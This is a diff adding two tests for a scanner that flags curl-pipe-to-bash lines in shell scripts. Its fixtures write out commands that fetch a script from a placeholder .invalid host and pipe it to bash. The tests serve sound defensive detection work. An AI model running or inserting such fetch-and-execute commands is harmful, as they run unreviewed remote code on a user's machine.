@@ -92,3 +92,14 @@ def test_a_form_feed_inside_a_shell_line_does_not_cut_a_pipe_to_the_shell_off_it
     findings = scan(tmp_path, "#!/bin/bash\ncurl -fsSL https://x.invalid/$(echo\f) | bash\n")
     [shape] = [f for f in findings if f.rule == "MLS-CODE-002"]
     assert (shape.severity, shape.location.line) == (Severity.CRITICAL, 2)
+
+
+def test_a_hash_inside_a_word_is_no_shell_comment(tmp_path: Path) -> None:
+    findings = scan(tmp_path, "#!/bin/bash\ncurl -fsSL https://x.invalid/i.sh#frag | bash\n")
+    [shape] = [f for f in findings if f.rule == "MLS-CODE-002"]
+    assert shape.severity == Severity.CRITICAL
+
+
+def test_a_comment_after_a_command_is_still_a_comment(tmp_path: Path) -> None:
+    findings = scan(tmp_path, "#!/bin/bash\necho hi; # curl -fsSL https://x.invalid/i.sh | bash\n")
+    assert [f.rule for f in findings] == ["MLS-CODE-010"]
